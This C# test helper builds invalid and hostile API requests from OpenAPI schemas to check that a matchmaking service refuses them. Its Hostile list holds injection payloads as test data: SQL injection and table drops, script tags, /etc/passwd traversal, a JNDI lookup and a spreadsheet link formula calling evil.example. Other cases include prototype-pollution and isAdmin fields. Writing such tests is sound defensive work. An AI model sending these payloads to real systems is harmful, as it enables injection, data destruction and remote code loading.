using System.Text;
using System.Text.Json.Nodes;
using System.Text.RegularExpressions;

namespace Matchmaker.Tests.Security;

/// <summary>One request that the API must refuse: a path with its query, a body as raw bytes, a content type and extra headers.</summary>
internal sealed record BadInput(string What, string PathAndQuery, byte[]? Body, string? ContentType, IReadOnlyList<(string Name, string Value)> Headers)
{
    public static BadInput Json(string what, string path, string body, params (string, string)[] headers) =>
        new(what, path, Encoding.UTF8.GetBytes(body), "application/json", headers);
}

/// <summary>
/// Invalid requests derived from an operation's documented schemas: wrong types, nulls and missing required
/// fields, values past every documented bound, enum and pattern violations with hostile strings, malformed
/// and ambiguous JSON, wrong content types, oversized and deeply nested bodies, bad query, path and header values.
/// </summary>
internal sealed class BadInputs(OpenApiOperations document, Random random)
{
    public const int MaxBodyBytes = 256 * 1024;
    private const string Marker = "__raw_value_goes_here__";

    public static readonly string[] Hostile =
    [
        "' OR '1'='1", "'; DROP TABLE smes; --", "<script>alert(1)</script>", "../../../../etc/passwd", "${jndi:ldap://evil.example/a}",
        "{{7*7}}", "%00", "\" onmouseover=\"alert(1)", "admin'--", "1; WAITFOR DELAY '0:0:10'--", "=HYPERLINK(\"http://evil.example\")",
        "😈", "Робот", "中文字符", "null", "undefined", "NaN", "-1", "0x7fffffff", "１２３", "<img src=x onerror=alert(1)>", "\\u0000", "%27%20OR%201=1",
    ];

    private static readonly string[] Roots = ["[]", "\"text\"", "42", "true", "{", "{\"a\":}", "not json", "{\"a\":1,}", "{'a':1}", "{/* comment */}", "{\"a\":NaN}", "[[[", "\"\\ud800\""];

    public IEnumerable<BadInput> For(ApiOperation op, string path)
    {
        var cases = new List<BadInput>();
        if (op.BodySchema is not null && op.BodyExample is not null)
        {
            cases.AddRange(BodyFields(op.BodySchema, op.BodyExample, path));
            cases.AddRange(WholeBodies(op, path));
        }

        foreach (var parameter in op.Parameters)
        {
            if (parameter.In == "query")
                cases.AddRange(QueryValues(parameter, path, op.BodyExample));
            else if (parameter.In == "path")
                cases.AddRange(PathValues(op, parameter, path));
            else if (parameter.In == "header" && parameter.Name == "Idempotency-Key")
                cases.AddRange(Header(parameter, path, op.BodyExample, [new string('k', 201), new string('k', 5000)]));
        }

        if (op.Parameters.Any(p => p.In == "query"))
        {
            foreach (var name in new[] { "unexpected", "<script>", "__proto__", "id" })
                cases.Add(new BadInput($"unknown query parameter {name}", $"{path}?{Uri.EscapeDataString(name)}=1", null, null, []));
        }

        return cases;
    }

    private IEnumerable<BadInput> BodyFields(JsonObject schema, JsonNode example, string path)
    {
        foreach (var (field, segments, fieldSchema, required) in Fields(schema, example, []))
        {
            JsonNode? current = Get(example, segments);
            foreach (var (what, value) in FieldValues(fieldSchema, required, current))
            {
                var body = example.DeepClone();
                if (what == "missing")
                    Remove(body, segments);
                else
                    Set(body, segments, value is RawValue ? JsonValue.Create(Marker) : ((JsonNode?)value)?.DeepClone());
                var text = body.ToJsonString();
                byte[] bytes = value is RawValue raw
                    ? [.. Encoding.UTF8.GetBytes(text[..text.IndexOf($"\"{Marker}\"", StringComparison.Ordinal)]), .. raw.Bytes,
                       .. Encoding.UTF8.GetBytes(text[(text.IndexOf($"\"{Marker}\"", StringComparison.Ordinal) + Marker.Length + 2)..])]
                    : Encoding.UTF8.GetBytes(text);
                yield return new BadInput($"{field}: {what}", path, bytes, "application/json", []);
            }
        }
    }

    /// <summary>Every field of the schema that the example reaches, depth first, with whether its parent requires it.</summary>
    private IEnumerable<(string Field, object[] Segments, JsonObject Schema, bool Required)> Fields(JsonObject schema, JsonNode? example, object[] at)
    {
        var required = (schema["required"]?.AsArray() ?? []).Select(r => r!.GetValue<string>()).ToHashSet();
        foreach (var (name, node) in schema["properties"]?.AsObject() ?? [])
        {
            var property = document.Resolve(node!.AsObject());
            object[] segments = [.. at, name];
            yield return (Describe(segments), segments, property, required.Contains(name));
            var value = example?[name];
            if (OpenApiOperations.TypeOf(property) == "object" && value is JsonObject)
            {
                foreach (var inner in Fields(property, value, segments))
                    yield return inner;
            }
            else if (OpenApiOperations.TypeOf(property) == "array" && value is JsonArray { Count: > 0 } items && items[0] is JsonObject
                     && property["items"] is JsonObject itemSchema)
            {
                foreach (var inner in Fields(document.Resolve(itemSchema), items[0], [.. segments, 0]))
                    yield return inner;
            }
        }
    }

    private IEnumerable<(string What, object? Value)> FieldValues(JsonObject schema, bool required, JsonNode? current)
    {
        var type = OpenApiOperations.TypeOf(schema);
        if (required)
        {
            yield return ("missing", null);
            yield return ("null", null);
        }

        foreach (var wrong in WrongTypes(type))
            yield return ($"wrong type {wrong?.ToJsonString()}", wrong);
        yield return ("nested 300 deep", new RawValue(Encoding.UTF8.GetBytes(new string('[', 300) + new string(']', 300))));

        switch (type)
        {
            case "string":
                foreach (var (what, value) in StringValues(schema, current?.GetValueKind() == System.Text.Json.JsonValueKind.String ? current.GetValue<string>() : "a"))
                    yield return (what, value);
                yield return ("invalid UTF-8", new RawValue([(byte)'"', 0xC3, 0x28, 0xFF, 0xFE, (byte)'"']));
                yield return ("lone surrogate escape", new RawValue(Encoding.UTF8.GetBytes("\"\\udc00\"")));
                break;
            case "integer":
            case "number":
                if (schema["maximum"] is JsonValue max)
                    yield return ($"above maximum {max}", JsonValue.Create(Past(max.GetValue<decimal>(), +1, type)));
                if (schema["minimum"] is JsonValue min)
                    yield return ($"below minimum {min}", JsonValue.Create(Past(min.GetValue<decimal>(), -1, type)));
                yield return ("1e400", new RawValue("1e400"u8.ToArray()));
                yield return ("-1e400", new RawValue("-1e400"u8.ToArray()));
                if (type == "integer")
                {
                    yield return ("fraction", JsonValue.Create(1.5));
                    yield return ("beyond int64", new RawValue("99999999999999999999999"u8.ToArray()));
                }

                break;
            case "array":
                var items = schema["items"] is JsonObject i ? document.Resolve(i) : [];
                var sample = current is JsonArray { Count: > 0 } a ? a[0]!.DeepClone() : SampleOf(items);
                if (schema["maxItems"] is JsonValue maxItems && sample is not null)
                    yield return ($"{maxItems.GetValue<int>() + 1} items", new JsonArray(Enumerable.Range(0, maxItems.GetValue<int>() + 1).Select(_ => sample.DeepClone()).ToArray()));
                if (schema["minItems"] is JsonValue minItems && minItems.GetValue<int>() > 0)
                    yield return ("no items", new JsonArray());
                foreach (var wrong in WrongTypes(OpenApiOperations.TypeOf(items)).Take(2))
                    yield return ($"an item of wrong type {wrong?.ToJsonString()}", new JsonArray(wrong));
                yield return ("20000 items", new JsonArray(Enumerable.Range(0, 20_000).Select(n => (JsonNode?)JsonValue.Create(n)).ToArray()));
                if (OpenApiOperations.TypeOf(items) == "string")
                {
                    foreach (var (what, value) in StringValues(items, sample?.GetValueKind() == System.Text.Json.JsonValueKind.String ? sample.GetValue<string>() : "a"))
                        yield return ($"an item {what}", new JsonArray(value));
                }

                break;
            case "object":
                if (current is JsonObject currentObject)
                {
                    var extended = currentObject.DeepClone().AsObject();
                    extended["unexpected"] = "field";
                    yield return ("with an unknown field", extended);
                }

                break;
        }
    }

    private IEnumerable<(string What, JsonNode? Value)> StringValues(JsonObject schema, string current)
    {
        if (schema["maxLength"] is JsonValue maxLength)
            yield return ($"{maxLength.GetValue<int>() + 1} characters", JsonValue.Create(Repeat(current, maxLength.GetValue<int>() + 1)));
        if (schema["minLength"] is JsonValue minLength && minLength.GetValue<int>() > 0)
            yield return ("empty", JsonValue.Create(""));
        foreach (var hostile in Violating(schema).Take(3))
            yield return ($"hostile {hostile}", JsonValue.Create(hostile));
        if (schema["format"]?.GetValue<string>() is "date" or "date-time" or "uuid")
        {
            yield return ("not in its format", JsonValue.Create("2026-13-45T99:99"));
            yield return ("blank for its format", JsonValue.Create(" "));
        }
    }

    /// <summary>Hostile strings, in seeded order, that the schema's enum or pattern rules out; none when it has neither.</summary>
    private IEnumerable<string> Violating(JsonObject schema)
    {
        var values = schema["enum"]?.AsArray().Select(v => v?.ToString()).ToHashSet();
        var pattern = schema["pattern"]?.GetValue<string>() is { } p ? new Regex(p) : null;
        if (values is null && pattern is null)
            return [];
        return Hostile.OrderBy(_ => random.Next()).Where(h => (values is null || !values.Contains(h)) && (pattern is null || !pattern.IsMatch(h)));
    }

    private IEnumerable<BadInput> WholeBodies(ApiOperation op, string path)
    {
        var example = op.BodyExample!.ToJsonString();
        var hasRequired = op.BodySchema!["required"] is JsonArray { Count: > 0 };
        foreach (var (name, value) in new (string, JsonNode)[] { ("id", Guid.NewGuid().ToString()), ("createdAt", "2026-01-01T00:00:00Z"), ("status", "closed"), ("ownerUserId", 1), ("isAdmin", true), ("__proto__", new JsonObject { ["admin"] = true }) })
        {
            var body = op.BodyExample.DeepClone().AsObject();
            body[name] = value;
            yield return BadInput.Json($"unknown field {name}", path, body.ToJsonString());
        }

        if (op.BodyExample is JsonObject { Count: > 0 } fields)
        {
            var (first, firstValue) = fields.First();
            yield return BadInput.Json($"duplicate key {first}, same value", path, $"{{\"{first}\":{firstValue?.ToJsonString() ?? "null"},{example[1..]}");
            yield return BadInput.Json($"duplicate key {first}, other value", path, $"{{\"{first}\":{JsonValue.Create(Hostile[random.Next(Hostile.Length)]).ToJsonString()},{example[1..]}");
        }

        foreach (var root in Roots)
            yield return BadInput.Json($"body {root}", path, root);
        if (hasRequired)
        {
            foreach (var empty in new[] { "", "{}", "null" })
                yield return BadInput.Json($"body '{empty}'", path, empty);
        }

        yield return BadInput.Json("trailing garbage", path, example + " garbage");
        yield return BadInput.Json("two documents", path, example + example);
        foreach (var type in new[] { "text/plain", "application/xml", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/octet-stream" })
            yield return new BadInput($"content type {type}", path, Encoding.UTF8.GetBytes(example), type, []);
        yield return new BadInput("no content type", path, Encoding.UTF8.GetBytes(example), null, []);
        yield return new BadInput("JSON in UTF-16 labelled UTF-8", path, Encoding.Unicode.GetBytes(example), "application/json; charset=utf-8", []);
        foreach (var size in new[] { MaxBodyBytes + 1024, 3 * 1024 * 1024 })
        {
            var padded = op.BodyExample.DeepClone().AsObject();
            padded["padding"] = new string('x', size);
            yield return BadInput.Json($"{size} bytes", path, padded.ToJsonString());
        }

        yield return BadInput.Json("10000 nested arrays", path, new string('[', 10_000) + new string(']', 10_000));
        yield return BadInput.Json("1000 nested objects", path, string.Concat(Enumerable.Repeat("{\"a\":", 1000)) + "1" + new string('}', 1000));
    }

    private IEnumerable<BadInput> QueryValues(OperationParameter parameter, string path, JsonNode? body)
    {
        var schema = parameter.Schema;
        var type = OpenApiOperations.TypeOf(schema);
        var values = new List<(string What, string Value)>();
        switch (type)
        {
            case "integer":
            case "number":
                values.AddRange([("not a number", "abc"), ("1e400", "1e400"), ("hostile", Hostile[random.Next(Hostile.Length)])]);
                if (type == "integer")
                    values.AddRange([("fraction", "1.5"), ("beyond int64", "99999999999999999999999")]);
                if (schema["maximum"] is JsonValue max)
                    values.Add(($"above maximum {max}", Past(max.GetValue<decimal>(), +1, type).ToString(System.Globalization.CultureInfo.InvariantCulture)));
                if (schema["minimum"] is JsonValue min)
                    values.Add(($"below minimum {min}", Past(min.GetValue<decimal>(), -1, type).ToString(System.Globalization.CultureInfo.InvariantCulture)));
                break;
            case "boolean":
                values.AddRange([("not a boolean", "maybe"), ("hostile", Hostile[random.Next(Hostile.Length)])]);
                break;
            case "string":
                if (schema["maxLength"] is JsonValue maxLength)
                    values.Add(($"{maxLength.GetValue<int>() + 1} characters", new string('a', maxLength.GetValue<int>() + 1)));
                values.AddRange(Violating(schema).Take(3).Select(h => ($"hostile {h}", h)));
                if (schema["format"]?.GetValue<string>() is "date" or "date-time")
                    values.AddRange([("not a date", "2026-13-45"), ("hostile date", Hostile[random.Next(Hostile.Length)])]);
                if (parameter.Name == "cursor")
                    values.AddRange([("forged cursor", "garbage"), ("hostile cursor", "' OR 1=1 --"), ("base64 cursor", Convert.ToBase64String("{\"id\":1}"u8.ToArray())), ("long cursor", new string('A', 5000))]);
                break;
            case "array" when schema["items"] is JsonObject items:
                // A comma-separated list (style form, explode false): a good item beside a hostile one, an empty item, too many items.
                var good = items["enum"]?.AsArray().FirstOrDefault()?.ToString() ?? "a";
                values.AddRange(Violating(items).Take(3).Select(h => ($"an item hostile {h}", $"{good},{h}")));
                values.AddRange([("an empty item", $"{good},,{good}"), ("a trailing comma", $"{good},")]);
                if (schema["maxItems"] is JsonValue maxItems)
                    values.Add(($"{maxItems.GetValue<int>() * 10} items", string.Join(',', Enumerable.Repeat(good, maxItems.GetValue<int>() * 10))));
                break;
        }

        return values.Select(v => new BadInput($"?{parameter.Name}: {v.What}", $"{path}?{parameter.Name}={Uri.EscapeDataString(v.Value)}",
            body is null ? null : Encoding.UTF8.GetBytes(body.ToJsonString()), body is null ? null : "application/json", []));
    }

    private IEnumerable<BadInput> PathValues(ApiOperation op, OperationParameter parameter, string path)
    {
        var body = op.BodyExample is null ? null : Encoding.UTF8.GetBytes(op.BodyExample.ToJsonString());
        var template = op.Template;
        foreach (var value in new[] { "not-a-guid", "1", "00000000-0000-0000-0000-000000000000", Hostile[random.Next(Hostile.Length)], Hostile[random.Next(Hostile.Length)] })
        {
            var bad = template.Replace("{" + parameter.Name + "}", Uri.EscapeDataString(value));
            yield return new BadInput($"path {parameter.Name} = {value}", Regex.Replace(bad, @"\{\w+\}", "00000000-0000-0000-0000-000000000001"), body, body is null ? null : "application/json", []);
        }
    }

    private static IEnumerable<BadInput> Header(OperationParameter parameter, string path, JsonNode? body, string[] values) =>
        values.Select(v => new BadInput($"header {parameter.Name} = '{(v.Length > 20 ? v[..20] + "…" : v)}'", path,
            body is null ? null : Encoding.UTF8.GetBytes(body.ToJsonString()), body is null ? null : "application/json", [(parameter.Name, v)]));

    private static IEnumerable<JsonNode?> WrongTypes(string type) => type switch
    {
        "string" => [JsonValue.Create(123), JsonValue.Create(true), new JsonObject(), new JsonArray()],
        "integer" => [JsonValue.Create("abc"), JsonValue.Create(true), new JsonObject(), new JsonArray()],
        "number" => [JsonValue.Create("abc"), JsonValue.Create(false), new JsonObject(), new JsonArray()],
        "boolean" => [JsonValue.Create("yes"), JsonValue.Create(1), new JsonObject(), new JsonArray()],
        "array" => [JsonValue.Create("x"), JsonValue.Create(7), new JsonObject(), JsonValue.Create(true)],
        "object" => [JsonValue.Create("x"), JsonValue.Create(7), new JsonArray(), JsonValue.Create(true)],
        _ => [],
    };

    private static JsonNode? SampleOf(JsonObject items) =>
        items["enum"] is JsonArray { Count: > 0 } values ? values[0]!.DeepClone()
        : items["example"]?.DeepClone() ?? JsonValue.Create("a");

    private static decimal Past(decimal bound, int direction, string type) =>
        type == "integer" ? bound + direction : bound + direction * Math.Max(1m, Math.Abs(bound));

    private static string Repeat(string seed, int length)
    {
        var unit = string.IsNullOrEmpty(seed) ? "a" : seed;
        var builder = new StringBuilder(length + unit.Length);
        while (builder.Length < length)
            builder.Append(unit);
        return builder.ToString(0, length);
    }

    private static string Describe(object[] segments) =>
        string.Concat(segments.Select((s, i) => s is int n ? $"[{n}]" : (i == 0 ? "" : ".") + s));

    private static JsonNode? Get(JsonNode? node, object[] segments)
    {
        foreach (var segment in segments)
            node = segment is int i ? (node is JsonArray a && a.Count > i ? a[i] : null) : node?[(string)segment];
        return node;
    }

    private static void Set(JsonNode root, object[] segments, JsonNode? value)
    {
        var parent = Get(root, segments[..^1])!;
        if (segments[^1] is int i)
            parent.AsArray()[i] = value;
        else
            parent.AsObject()[(string)segments[^1]] = value;
    }

    private static void Remove(JsonNode root, object[] segments)
    {
        var parent = Get(root, segments[..^1]);
        if (parent is JsonObject o)
            o.Remove((string)segments[^1]);
    }

    /// <summary>Bytes put into the body where the field's value goes, for what a JSON tree cannot hold.</summary>
    private sealed record RawValue(byte[] Bytes);
}
